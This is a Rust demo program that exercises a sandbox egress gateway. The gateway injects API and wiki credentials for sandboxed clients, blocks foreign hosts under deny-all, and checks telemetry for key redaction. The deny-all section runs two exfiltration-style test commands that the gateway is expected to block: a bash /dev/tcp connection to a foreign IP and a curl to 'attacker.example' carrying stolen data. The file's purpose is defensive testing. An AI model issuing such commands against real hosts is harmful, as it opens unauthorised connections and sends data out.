//! The main job, told as a story: `demo --postern PATH` runs unmodified clients in a sandbox,
//! under the worked example and then under deny-all, and shows what they could and could not do.
//! Every step is checked; the exit status is 0 only if all of them held. It refuses to need the
//! network: the internet is a namespace made for the occasion.
#![allow(clippy::print_stdout, reason = "the story is its output")]

use std::io::IsTerminal;
use std::time::Duration;
use std::{env, fs};

use anyhow::{Context, Result, bail};
use e2e::mock::{anthropic, wiki};
use e2e::policy::{self, ANTHROPIC, WIKI};
use e2e::postern::Done;
use e2e::worked_example::{self, Additions};
use e2e::world::PLACEHOLDER;
use e2e::{World, world};
use serde_json::{Value, json};

const MODEL: &str = "claude-haiku-4-5";
const MESSAGES: &str = "https://api.anthropic.com/v1/messages";
const SNIPPET: &str = "https://wiki.local/snippets/durability";
/// The exporter sends in batches.
const EXPORT: Duration = Duration::from_secs(10);

fn main() -> Result<()> {
    let mut arguments = env::args_os().skip(1);
    match (arguments.next(), arguments.next(), arguments.next()) {
        (None, ..) => {}
        (Some(flag), Some(path), None) if flag == "--postern" => {
            // The library looks the binary up by this variable; no other thread runs yet, but
            // setting it needs `unsafe`: a child of the same program gets it instead.
            let status = std::process::Command::new(env::current_exe()?)
                .env("POSTERN_BIN", path)
                .status()?;
            std::process::exit(status.code().unwrap_or(1));
        }
        _ => bail!("usage: demo [--postern PATH]"),
    }
    let mut story = Story::new();
    let told = tell(&mut story);
    if let Err(error) = told {
        story.step(false, &format!("the story broke off: {error:#}"));
    }
    story.end()
}

fn tell(story: &mut Story) -> Result<()> {
    story.act("The cast");
    let world = World::new()?;
    story.say(
        "A mock Anthropic API and a mock wiki (TLS, own authority, 401 without the right key),",
    );
    story.say(
        "an OTLP collector, and an internet with a packet capture in it. The keys are random.",
    );
    story.say(&format!(
        "The API's key begins with {}…; the sandbox only knows {PLACEHOLDER}.",
        &world.keys.anthropic[..17]
    ));
    first_act(story, &world)?;
    second_act(story, &world)?;
    third_act(story, &world)
}

/// The worked example, as it stands.
fn first_act(story: &mut Story, world: &World) -> Result<()> {
    story.act("The worked example: four documents, allow-all");
    let original = worked_example::documents()?;
    let documents = worked_example::with_key(&original, &world.keys.anthropic)?;
    let endpoint = world.otlp.endpoint();
    let additions = Additions {
        hosts: &[ANTHROPIC, WIKI],
        endpoint: &endpoint,
    };
    let documents = worked_example::with(&documents, &additions)?;
    story.say("policies/worked-example/policy.yaml, and what the mocks make necessary:");
    for line in worked_example::difference(&original, &documents) {
        story.quote(&hide(&line));
    }
    write(world, &[documents])?;

    let done = world
        .exec(["env"])
        .env("ANTHROPIC_API_KEY", PLACEHOLDER)
        .run()?;
    story.command("env | grep API_KEY");
    let shown = done.out();
    let keys = shown.lines().filter(|line| line.contains("API_KEY"));
    keys.for_each(|line| story.quote(line));
    story.check(
        done.code() == 0 && world.keys.all().iter().all(|key| !shown.contains(key)),
        "the environment holds no key",
        &done,
    );

    let body = ask();
    let header = format!("x-api-key: {PLACEHOLDER}");
    let done = world
        .curl(&["-w", "\n%{http_code}", "-H", &header, MESSAGES, "-d", &body])
        .run()?;
    story.command(&format!("curl -s -H '{header}' {MESSAGES} -d …"));
    let out = done.out();
    let (answer, status) = out.trim_end().rsplit_once('\n').unwrap_or(("", &out));
    story.quote(&said(answer));
    story.check(
        status == "200",
        &format!("unmodified curl: {status}"),
        &done,
    );
    let seen = world.mocks.anthropic.seen();
    story.check(
        seen.occurrences(&world.keys.anthropic) == 1 && seen.occurrences(PLACEHOLDER) == 0,
        "the API saw the real key exactly once and the placeholder never",
        &done,
    );

    let program = format!(
        "import json, urllib.request\n\
         request = urllib.request.Request({MESSAGES:?}, json.dumps({body}).encode(), {{'x-api-key': {PLACEHOLDER:?}}})\n\
         print(urllib.request.urlopen(request).read().decode())\n"
    );
    let done = world.exec(["python3", "-c", &program]).run()?;
    story.command("python3 -c 'urllib.request.urlopen(…)'");
    story.quote(&said(&done.out()));
    story.check(done.code() == 0, "a Python client (urllib): 200", &done);

    if world::python().is_ok() {
        let done = world
            .script("anthropic_sdk.py", &["create", "stream"])?
            .run()?;
        story.command("python3 anthropic_sdk.py   # the real SDK: create(), stream()");
        let calls = done.json_lines().map_or(0, |lines| lines.len());
        story.check(
            done.code() == 0 && calls == 2,
            "Anthropic's own SDK: a message at once, and one streamed",
            &done,
        );
    } else {
        story.say("(the anthropic SDK is not installed: `cargo xtask setup` does that)");
    }
    Ok(())
}

/// The same under deny-all, with the wiki's rule.
fn second_act(story: &mut Story, world: &World) -> Result<()> {
    story.act("Deny-all, and one rule for a wiki");
    let documents = worked_example::with_key(&worked_example::documents()?, &world.keys.anthropic)?;
    let endpoint = world.otlp.endpoint();
    let additions = Additions {
        hosts: &[ANTHROPIC, WIKI],
        endpoint: &endpoint,
    };
    let documents = worked_example::with(&worked_example::denying(&documents)?, &additions)?;
    let rule = policy::proxy_rule(
        "wiki-auth",
        WIKI.name,
        &[("Authorization", "Bearer {{ wiki-token.value }}")],
    );
    let rule = rule.replace(policy::GATEWAY, worked_example::GATEWAY);
    story.say("defaultPolicy: deny-all, and:");
    rule.lines().for_each(|line| story.quote(line));
    write(world, &[documents, rule])?;

    let done = world.curl(&["-w", "\n%{http_code}", SNIPPET]).run()?;
    story.command(&format!("curl -s {SNIPPET}"));
    let out = done.out();
    let (answer, status) = out.trim_end().rsplit_once('\n').unwrap_or(("", &out));
    story.quote(answer);
    let held = status == "200" && answer.contains(wiki::SNIPPET);
    story.check(
        held,
        &format!("the wiki, with a token that only the gateway has: {status}"),
        &done,
    );
    let held = world.mocks.wiki.seen().occurrences(&world.keys.wiki) == 1;
    story.check(held, "the wiki saw its token exactly once", &done);

    let done = world
        .exec(["bash", "-c", "exec 3<>/dev/tcp/203.0.113.9/22"])
        .run()?;
    story.command("bash -c 'exec 3<>/dev/tcp/203.0.113.9/22'");
    done.err()
        .lines()
        .filter(|line| line.contains("tcp"))
        .for_each(|line| story.quote(line));
    let held = done.err().contains("Operation not permitted");
    story.check(
        held,
        "a foreign host by its address: EPERM, from connect() itself",
        &done,
    );
    record(story, &done);

    let done = world
        .curl(&[
            "-w",
            "\n%{http_code}",
            "--resolve",
            "attacker.example:443:203.0.113.9",
            "https://attacker.example/?stolen=data",
        ])
        .run()?;
    story.command("curl -s https://attacker.example/?stolen=data   # its address planted");
    let out = done.out();
    let (answer, status) = out.trim_end().rsplit_once('\n').unwrap_or(("", &out));
    story.quote(answer);
    story.check(
        status == "403",
        &format!("a foreign host by its name: {status}, and the reason"),
        &done,
    );
    record(story, &done);
    let quiet = world.internet.saw_nothing().is_ok();
    story.check(quiet, "the capture in the internet saw no packet", &done);
    Ok(())
}

/// What the collector was told.
fn third_act(story: &mut Story, world: &World) -> Result<()> {
    story.act("What the collector was told");
    let span = world.otlp.wait_for(EXPORT, |span| {
        span.text("gen_ai.request.model") == Some(MODEL)
            && span.number("gen_ai.usage.output_tokens").is_some()
    })?;
    story.say(&format!("span {:?}", span.name()));
    for name in [
        "http.response.status_code",
        "server.address",
        "process.executable.name",
        "postern.rule",
        "postern.credential.injected",
        "gen_ai.usage.input_tokens",
        "gen_ai.usage.output_tokens",
    ] {
        let value = span.attribute(name).unwrap_or(Value::Null);
        story.quote(&format!("{name} = {value}"));
    }
    let headers = span.event("http.request.headers").unwrap_or_default();
    let key = headers.get("http.request.header.x-api-key").cloned();
    let key = key.unwrap_or(Value::Null).to_string();
    story.quote(&format!("http.request.header.x-api-key = {key}"));
    story.step(
        key.contains("[redacted]"),
        "the key is [redacted] in the span",
    );
    let counted = span.number("gen_ai.usage.input_tokens") == Some(anthropic::INPUT_TOKENS)
        && span.number("gen_ai.usage.output_tokens") == Some(anthropic::OUTPUT_TOKENS);
    story.step(counted, "the tokens are counted as the API reported them");
    let spans = world.otlp.spans();
    let clean = world
        .keys
        .all()
        .iter()
        .all(|key| spans.iter().all(|span| !span.mentions(key)));
    story.step(
        clean,
        &format!("no key in any of the {} spans", spans.len()),
    );
    let denied = world
        .otlp
        .wait_for(EXPORT, |span| span.name() == "egress.denied");
    story.step(denied.is_ok(), "the refusals have spans of their own");
    Ok(())
}

fn ask() -> String {
    let messages = json!([{"role": "user", "content": "What of the door?"}]);
    json!({"model": MODEL, "max_tokens": 64, "messages": messages}).to_string()
}

/// The answer's text and usage, or whatever it was instead.
fn said(answer: &str) -> String {
    match serde_json::from_str::<Value>(answer) {
        Ok(answer) if answer["type"] == "message" => {
            format!(
                "{} — usage {}",
                answer["content"][0]["text"], answer["usage"]
            )
        }
        _ => answer.trim().to_owned(),
    }
}

/// The policy folder: `documents`, and the trust bundle that they refer to.
fn write(world: &World, documents: &[String]) -> Result<()> {
    world.write_policy(documents)?;
    let path = world.path("policy").join("test-ca.yaml");
    fs::write(&path, policy::test_ca(world.ca.pem()))
        .with_context(|| format!("cannot write {}", path.display()))
}

/// The added key is a key, even here.
fn hide(line: &str) -> String {
    match line.split_once("api-key: ") {
        Some((before, value)) if line.starts_with('+') => {
            format!("{before}api-key: {}…", &value[..value.len().min(12)])
        }
        _ => line.to_owned(),
    }
}

/// The record of the refusal.
fn record(story: &mut Story, done: &Done) {
    match done.records("denied").first() {
        Some(record) => {
            let line = format!(
                "on record: {} at stage {}, {}, process {:?}",
                record.reason(),
                record.stage(),
                record.destination(),
                record.comm()
            );
            story.check(!record.reason().is_empty(), &line, done);
        }
        None => story.check(false, "the refusal is on record", done),
    }
}

/// How it is told, and whether all of it held.
struct Story {
    colour: bool,
    acts: usize,
    steps: usize,
    failed: usize,
}

impl Story {
    fn new() -> Self {
        Self {
            colour: std::io::stdout().is_terminal() && env::var_os("NO_COLOR").is_none(),
            acts: 0,
            steps: 0,
            failed: 0,
        }
    }

    fn paint(&self, code: &str, text: &str) -> String {
        if self.colour {
            format!("\x1b[{code}m{text}\x1b[0m")
        } else {
            text.to_owned()
        }
    }

    fn act(&mut self, title: &str) {
        self.acts += 1;
        println!("\n{}", self.paint("1", &format!("{}. {title}", self.acts)));
    }

    fn say(&self, text: &str) {
        println!("   {text}");
    }

    fn command(&self, text: &str) {
        println!("   {}", self.paint("36", &format!("[sandbox] $ {text}")));
    }

    fn quote(&self, text: &str) {
        println!("   {}", self.paint("2", &format!("│ {}", text.trim_end())));
    }

    fn step(&mut self, held: bool, text: &str) {
        self.steps += 1;
        if held {
            println!(" {} {text}", self.paint("32", "✓"));
        } else {
            self.failed += 1;
            println!(" {} {text}", self.paint("31", "✗"));
        }
    }

    /// A step of a sandboxed command, whose whole output is shown if it did not hold.
    fn check(&mut self, held: bool, text: &str, done: &Done) {
        self.step(held, text);
        if !held {
            done.to_string().lines().for_each(|line| self.quote(line));
        }
    }

    fn end(&self) -> Result<()> {
        println!();
        if self.failed > 0 {
            bail!("{} of {} steps did not hold", self.failed, self.steps);
        }
        println!("All {} steps held.", self.steps);
        Ok(())
    }
}
